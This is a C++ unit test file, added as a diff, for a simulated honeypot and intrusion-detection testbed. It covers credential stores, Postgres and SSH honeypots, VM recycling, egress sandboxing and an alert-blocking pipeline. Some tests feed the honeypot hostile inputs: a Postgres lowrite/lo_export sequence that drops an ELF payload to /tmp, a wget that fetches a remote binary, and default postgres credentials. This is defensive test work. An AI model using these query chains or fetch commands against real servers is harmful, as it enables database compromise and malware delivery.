@@ -1,0 +1,335 @@
+// Testbed components: credentials, honeypot services, VM lifecycle,
+// sandbox isolation, and the alert pipeline with BHR response.
+
+#include <gtest/gtest.h>
+
+#include "testbed/testbed.hpp"
+
+namespace at::testbed {
+namespace {
+
+const incidents::Corpus& training() {
+  static const incidents::Corpus corpus = [] {
+    incidents::CorpusConfig config;
+    config.repetition_scale = 0.02;
+    return incidents::CorpusGenerator(config).generate();
+  }();
+  return corpus;
+}
+
+TEST(CredentialStoreTest, DefaultsAuthenticate) {
+  CredentialStore store;
+  store.add_defaults();
+  const auto ok = store.authenticate("postgres", "postgres");
+  ASSERT_TRUE(ok.has_value());
+  EXPECT_TRUE(ok->is_default);
+  EXPECT_FALSE(store.authenticate("postgres", "wrong").has_value());
+  EXPECT_EQ(store.total_uses(), 1u);
+}
+
+TEST(CredentialStoreTest, LeakedCredentialsAttributeChannel) {
+  CredentialStore store;
+  const auto& leaked = store.leak(LeakChannel::kGitCommit, 100);
+  const auto auth = store.authenticate(leaked.username, leaked.password);
+  ASSERT_TRUE(auth.has_value());
+  // The unique key ties the login back to where it was advertised.
+  EXPECT_EQ(auth->channel, LeakChannel::kGitCommit);
+  EXPECT_EQ(auth->leaked_at, 100);
+}
+
+TEST(CredentialStoreTest, LeaksAreUnique) {
+  CredentialStore store;
+  const auto a = store.leak(LeakChannel::kPasteSite, 0);
+  const auto b = store.leak(LeakChannel::kPasteSite, 0);
+  EXPECT_NE(a.password, b.password);
+}
+
+TEST(PostgresHoneypotTest, RansomwarePrimitives) {
+  CredentialStore store;
+  store.add_defaults();
+  std::vector<monitors::ProcessEvent> processes;
+  std::vector<monitors::SyscallEvent> syscalls;
+  ServiceHooks hooks;
+  hooks.on_process = [&](const monitors::ProcessEvent& e) { processes.push_back(e); };
+  hooks.on_syscall = [&](const monitors::SyscallEvent& e) { syscalls.push_back(e); };
+  PostgresHoneypot pg("pg-0", net::Ipv4(141, 142, 250, 1), store, hooks);
+
+  auto session = pg.connect(net::Ipv4(111, 200, 1, 1), "postgres", "postgres", 10);
+  ASSERT_TRUE(session.has_value());
+
+  // Step 1: version recon.
+  const auto version = pg.query(*session, "SHOW server_version_num", 20);
+  EXPECT_TRUE(version.ok);
+  EXPECT_EQ(version.response, "90121");
+  // Step 2: hex-ELF payload.
+  EXPECT_TRUE(pg.query(*session, "SELECT lowrite(0, decode('7F454C46','hex'))", 30).ok);
+  // Step 3: export to disk.
+  EXPECT_TRUE(pg.query(*session, "SELECT lo_export(16385, '/tmp/kp')", 40).ok);
+  ASSERT_EQ(pg.files_on_disk().size(), 1u);
+  EXPECT_EQ(pg.files_on_disk()[0], "/tmp/kp");
+  // The drop surfaced as an execve-style audit event.
+  ASSERT_FALSE(syscalls.empty());
+  EXPECT_EQ(syscalls[0].path, "/tmp/kp");
+  // Every step produced an observable process event.
+  EXPECT_GE(processes.size(), 3u);
+}
+
+TEST(PostgresHoneypotTest, FailedAuthIsObservedAndCounted) {
+  CredentialStore store;
+  store.add_defaults();
+  std::vector<net::Flow> flows;
+  ServiceHooks hooks;
+  hooks.on_flow = [&](const net::Flow& f) { flows.push_back(f); };
+  PostgresHoneypot pg("pg-0", net::Ipv4(141, 142, 250, 1), store, hooks);
+  EXPECT_FALSE(pg.connect(net::Ipv4(9, 9, 9, 9), "admin", "nope", 5).has_value());
+  EXPECT_EQ(pg.failed_logins(), 1u);
+  ASSERT_EQ(flows.size(), 1u);
+  EXPECT_EQ(flows[0].state, net::ConnState::kRejected);
+  EXPECT_EQ(flows[0].dst_port, net::ports::kPostgres);
+}
+
+TEST(PostgresHoneypotTest, QueriesRequireAuth) {
+  CredentialStore store;
+  ServiceHooks hooks;
+  PostgresHoneypot pg("pg-0", net::Ipv4(141, 142, 250, 1), store, hooks);
+  PostgresHoneypot::Session fake;
+  EXPECT_FALSE(pg.query(fake, "SELECT 1", 0).ok);
+}
+
+TEST(SshHoneypotTest, KeyAuthAndExec) {
+  std::vector<net::Flow> flows;
+  std::vector<monitors::ProcessEvent> processes;
+  ServiceHooks hooks;
+  hooks.on_flow = [&](const net::Flow& f) { flows.push_back(f); };
+  hooks.on_process = [&](const monitors::ProcessEvent& e) { processes.push_back(e); };
+  SshHoneypot ssh("pg-1", net::Ipv4(141, 142, 250, 2), hooks);
+  EXPECT_FALSE(ssh.login_with_key(net::Ipv4(1, 1, 1, 1), "unknown-key", 5));
+  EXPECT_EQ(ssh.rejected_logins(), 1u);
+  ssh.authorize_key("stolen-key");
+  EXPECT_TRUE(ssh.login_with_key(net::Ipv4(1, 1, 1, 1), "stolen-key", 6));
+  ssh.exec("postgres", "wget http://1.2.3.4/sys.x86_64", 7);
+  ASSERT_EQ(processes.size(), 1u);
+  EXPECT_EQ(processes[0].host, "pg-1");
+  EXPECT_EQ(flows.size(), 2u);
+}
+
+TEST(VmManagerTest, SixteenEntryPointsOnTheSlash24) {
+  VmManager manager;
+  manager.provision_entry_points(1000);
+  EXPECT_EQ(manager.instances().size(), 16u);
+  EXPECT_EQ(manager.running_count(), 16u);
+  for (const auto& instance : manager.instances()) {
+    EXPECT_TRUE(net::blocks::honeypot24().contains(instance.address));
+    EXPECT_EQ(instance.state, InstanceState::kRunning);
+    EXPECT_EQ(instance.image, "pg-honeypot-immutable-v3");
+  }
+  // Addresses are distinct.
+  std::set<std::uint32_t> addresses;
+  for (const auto& instance : manager.instances()) {
+    EXPECT_TRUE(addresses.insert(instance.address.value()).second);
+  }
+}
+
+TEST(VmManagerTest, ShortLivedInstancesRecycle) {
+  LifecycleConfig config;
+  config.instance_ttl = 100;
+  VmManager manager(config);
+  manager.provision_entry_points(0);
+  EXPECT_EQ(manager.tick(50), 0u);
+  EXPECT_EQ(manager.tick(100), 16u);  // all expired -> recycled
+  EXPECT_EQ(manager.total_recycled(), 16u);
+  for (const auto& instance : manager.instances()) {
+    EXPECT_EQ(instance.generation, 1u);
+    EXPECT_EQ(instance.state, InstanceState::kRunning);
+    EXPECT_EQ(instance.launched_at, 100);
+  }
+}
+
+TEST(VmManagerTest, CaptureTriggersRecycle) {
+  VmManager manager;
+  manager.provision_entry_points(0);
+  const auto id = manager.instances()[0].id;
+  EXPECT_TRUE(manager.mark_capturing(id));
+  EXPECT_FALSE(manager.mark_capturing(id));  // already capturing
+  EXPECT_EQ(manager.tick(1), 1u);
+  // Hostname and address survive the recycle (immutable image relaunch).
+  EXPECT_EQ(manager.instances()[0].hostname, "pg-0");
+  EXPECT_EQ(manager.instances()[0].generation, 1u);
+}
+
+TEST(VmManagerTest, AutoScaleUpToCeiling) {
+  LifecycleConfig config;
+  config.entry_points = 2;
+  config.max_instances = 3;
+  VmManager manager(config);
+  manager.provision_entry_points(0);
+  EXPECT_TRUE(manager.scale_up(1).has_value());
+  EXPECT_FALSE(manager.scale_up(2).has_value());  // ceiling
+  EXPECT_EQ(manager.instances().size(), 3u);
+}
+
+TEST(VmManagerTest, RejectsBadConfig) {
+  LifecycleConfig config;
+  config.entry_points = 0;
+  EXPECT_THROW(VmManager{config}, std::invalid_argument);
+  config.entry_points = 500;  // larger than the /24
+  config.max_instances = 1000;
+  EXPECT_THROW(VmManager{config}, std::invalid_argument);
+}
+
+TEST(SandboxTest, DropsEgressKeepsInternal) {
+  NetworkSandbox sandbox;
+  net::Flow flow;
+  flow.src = net::blocks::honeypot24().host(1);
+  // Lateral movement between honeypot instances is allowed (that is the
+  // behaviour we want to capture).
+  flow.dst = net::blocks::honeypot24().host(2);
+  EXPECT_EQ(sandbox.judge(flow), EgressVerdict::kAllowedInternal);
+  flow.dst = net::blocks::overlay().host(7);
+  EXPECT_EQ(sandbox.judge(flow), EgressVerdict::kAllowedInternal);
+  // A new connection to the Internet is dropped and logged.
+  flow.dst = net::Ipv4(194, 145, 1, 1);
+  EXPECT_EQ(sandbox.judge(flow), EgressVerdict::kDroppedEgress);
+  EXPECT_EQ(sandbox.dropped(), 1u);
+  ASSERT_EQ(sandbox.escape_attempts().size(), 1u);
+  EXPECT_EQ(sandbox.escape_attempts()[0].dst, net::Ipv4(194, 145, 1, 1));
+}
+
+TEST(SandboxTest, WhitelistedMonitoringPlane) {
+  SandboxConfig config;
+  config.whitelist.push_back(net::Ipv4(141, 143, 0, 9));
+  NetworkSandbox sandbox(config);
+  net::Flow flow;
+  flow.src = net::blocks::honeypot24().host(1);
+  flow.dst = net::Ipv4(141, 143, 0, 9);
+  EXPECT_EQ(sandbox.judge(flow), EgressVerdict::kAllowedWhitelisted);
+}
+
+TEST(PipelineTest, FiltersRepeatsAndTracksEntities) {
+  bhr::BlackHoleRouter router;
+  AlertPipeline pipeline(PipelineConfig{}, &router);
+  alerts::Alert probe;
+  probe.type = alerts::AlertType::kPortScan;
+  probe.host = "node-1";
+  probe.src = net::Ipv4(9, 9, 9, 9);
+  for (int i = 0; i < 10; ++i) {
+    probe.ts = i;
+    pipeline.on_alert(probe);
+  }
+  EXPECT_EQ(pipeline.alerts_in(), 10u);
+  EXPECT_EQ(pipeline.alerts_after_filter(), 1u);  // periodic repeats dropped
+  EXPECT_EQ(pipeline.tracked_entities(), 1u);
+}
+
+TEST(PipelineTest, DetectionNotifiesAndBlocks) {
+  bhr::BlackHoleRouter router;
+  PipelineConfig config;
+  config.block_ttl = 1000;
+  AlertPipeline pipeline(config, &router);
+  pipeline.add_detector("critical", [] {
+    return std::make_unique<detect::CriticalAlertDetector>();
+  });
+
+  alerts::Alert alert;
+  alert.ts = 42;
+  alert.type = alerts::AlertType::kPrivilegeEscalation;
+  alert.host = "node-1";
+  alert.src = net::Ipv4(9, 9, 9, 9);
+  pipeline.on_alert(alert);
+
+  ASSERT_EQ(pipeline.notifications().size(), 1u);
+  EXPECT_EQ(pipeline.notifications()[0].detector, "critical");
+  EXPECT_EQ(pipeline.notifications()[0].entity, "host:node-1");
+  // The pipeline called the BHR API.
+  EXPECT_TRUE(router.is_blocked(net::Ipv4(9, 9, 9, 9), 43));
+  EXPECT_FALSE(router.is_blocked(net::Ipv4(9, 9, 9, 9), 42 + 1001));  // TTL
+}
+
+TEST(PipelineTest, EntityStreamsAreIndependent) {
+  // A signature split across two hosts must not fire — each entity's
+  // matcher only sees its own substream. The rule-based detector makes
+  // this deterministic (it needs the complete subsequence).
+  AlertPipeline pipeline(PipelineConfig{}, nullptr);
+  pipeline.add_detector("rules", [] {
+    return std::make_unique<detect::RuleBasedDetector>(
+        std::vector<detect::RuleBasedDetector::Signature>{
+            {"motif",
+             {alerts::AlertType::kDownloadSensitive, alerts::AlertType::kCompileSource,
+              alerts::AlertType::kLogTampering}}});
+  });
+  alerts::Alert alert;
+  alert.ts = 1;
+  alert.type = alerts::AlertType::kDownloadSensitive;
+  alert.host = "a";
+  pipeline.on_alert(alert);
+  alert.ts = 2;
+  alert.type = alerts::AlertType::kCompileSource;
+  alert.host = "b";
+  pipeline.on_alert(alert);
+  alert.ts = 3;
+  alert.type = alerts::AlertType::kLogTampering;
+  alert.host = "a";
+  pipeline.on_alert(alert);
+  alert.ts = 4;
+  alert.host = "b";
+  pipeline.on_alert(alert);
+  EXPECT_EQ(pipeline.tracked_entities(), 2u);
+  EXPECT_TRUE(pipeline.notifications().empty());
+  // On one host the full motif *does* fire.
+  alerts::Alert full;
+  full.host = "c";
+  for (const auto type : {alerts::AlertType::kDownloadSensitive,
+                          alerts::AlertType::kCompileSource,
+                          alerts::AlertType::kLogTampering}) {
+    full.ts += 10;
+    full.type = type;
+    pipeline.on_alert(full);
+  }
+  ASSERT_EQ(pipeline.notifications().size(), 1u);
+  EXPECT_EQ(pipeline.notifications()[0].entity, "host:c");
+}
+
+TEST(TestbedTest, DeployWiresEverything) {
+  TestbedConfig config;
+  Testbed bed(config, training());
+  bed.deploy(0);
+  EXPECT_EQ(bed.postgres().size(), 16u);
+  EXPECT_EQ(bed.ssh().size(), 16u);
+  EXPECT_EQ(bed.vms().running_count(), 16u);
+  EXPECT_GE(bed.credentials().credentials().size(), 6u);  // defaults + leaks
+  // Known-hosts federation: every instance knows the other fifteen.
+  for (const auto& pg : bed.postgres()) {
+    EXPECT_EQ(pg->known_hosts().size(), 15u);
+  }
+}
+
+TEST(TestbedTest, InjectFlowPathways) {
+  TestbedConfig config;
+  Testbed bed(config, training());
+  bed.deploy(0);
+  // Blocked source is dropped at the BHR.
+  bed.router().block(net::Ipv4(6, 6, 6, 6), 0, 0, "test", "t");
+  net::Flow flow;
+  flow.ts = 10;
+  flow.src = net::Ipv4(6, 6, 6, 6);
+  flow.dst = bed.postgres()[0]->address();
+  flow.dst_port = net::ports::kPostgres;
+  EXPECT_FALSE(bed.inject_flow(flow));
+  // Unblocked attempts are recorded as scans and reach Zeek.
+  flow.src = net::Ipv4(7, 7, 7, 7);
+  EXPECT_TRUE(bed.inject_flow(flow));
+  EXPECT_EQ(bed.scan_recorder().total_probes(), 1u);
+  EXPECT_EQ(bed.zeek().flows_seen(), 1u);
+  // Honeypot-originated egress is dropped but still observed by Zeek.
+  net::Flow egress;
+  egress.ts = 20;
+  egress.src = bed.postgres()[0]->address();
+  egress.dst = net::Ipv4(194, 145, 1, 1);
+  egress.state = net::ConnState::kEstablished;
+  EXPECT_FALSE(bed.inject_flow(egress));
+  EXPECT_EQ(bed.sandbox().dropped(), 1u);
+  EXPECT_EQ(bed.zeek().flows_seen(), 2u);
+}
+
+}  // namespace
+}  // namespace at::testbed
